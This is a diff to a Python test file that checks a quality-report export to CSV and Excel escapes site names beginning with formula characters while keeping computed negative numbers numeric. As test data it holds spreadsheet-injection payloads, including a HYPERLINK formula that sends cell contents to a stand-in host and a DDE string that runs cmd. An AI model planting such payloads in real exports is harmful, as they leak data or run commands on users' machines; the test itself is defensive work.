@@ -8,19 +8,21 @@ from __future__ import annotations
 import csv
 import io
 import zipfile
+from datetime import date, datetime, timedelta
 from pathlib import Path
 
 import pytest
 from openpyxl import Workbook, load_workbook
 from sqlalchemy import select
 
-from citizenspace.domain.catalog import Competence
+from citizenspace.domain.catalog import Channel, Competence, VisitOutcome
 from citizenspace.domain.directory import EntryDraft
 from citizenspace.services.directory import DirectoryService
 from citizenspace.services.directory_io import DirectoryFiles
 from citizenspace.services.people_import import PeopleImportService
+from citizenspace.services.quality import QualityService
 from citizenspace.services.spreadsheets import FORMULA_SIGNS, write_csv
-from citizenspace.store.models import DirectoryEntry, Person
+from citizenspace.store.models import DirectoryEntry, Person, Site, Visit
 
 LINK = '=HYPERLINK("http://evil.example/?q="&A1,"Cliquez ici")'
 CMD = "-2+3+cmd|' /C calc'!A0"
@@ -221,3 +223,45 @@ def test_people_written_by_the_application_import_back_unchanged(db, tmp_path):
             for p in s.scalars(select(Person))
         }
     assert stored == {(p[0], p[1], p[2], p[3], p[5]) for p in people}
+
+
+# --------------------------------------------------------------------------- quality
+
+
+def test_the_quality_export_keeps_numbers_and_runs_no_site_name(db, tmp_path):
+    names = ['=HYPERLINK("http://evil.example","Accueil")', "-Annexe"]
+    with db.write() as s:
+        for name in names:
+            site = Site(name=name)
+            s.add(site)
+            s.flush()
+            arrived = datetime(2026, 3, 2, 9)
+            s.add(
+                Visit(
+                    site_id=site.id,
+                    channel=Channel.DESK,
+                    outcome=VisitOutcome.ANSWERED,
+                    arrived_at=arrived,
+                    started_at=arrived + timedelta(minutes=5),
+                    ended_at=arrived + timedelta(minutes=10),
+                    satisfaction=1,
+                    wait_seconds=300,
+                    service_seconds=300,
+                )
+            )
+    service = QualityService(db, today=date(2026, 4, 1))
+    report = service.indicators(date(2026, 3, 1), date(2026, 3, 31))
+
+    rows = csv_cells(service.export(tmp_path / "q.csv", report))
+    net = rows[0].index("Net satisfaction (points)")
+    sites = [r[2] for r in rows[1:]]
+    assert "'" + names[0] in sites and "'-Annexe" in sites
+    # A negative figure the application computed stays a number for Excel.
+    assert {r[net] for r in rows[1:]} == {"-100,0"}
+    assert runnable(rows) == ["-100,0"] * (len(rows) - 1)
+
+    cells = xlsx_cells(service.export(tmp_path / "q.xlsx", report))
+    texts = [c for c in cells if isinstance(c.value, str)]
+    assert texts and {c.data_type for c in texts} == {"s"}
+    assert {c.value for c in texts} >= set(names)
+    assert {c.data_type for c in cells if c.value == -100} == {"n"}
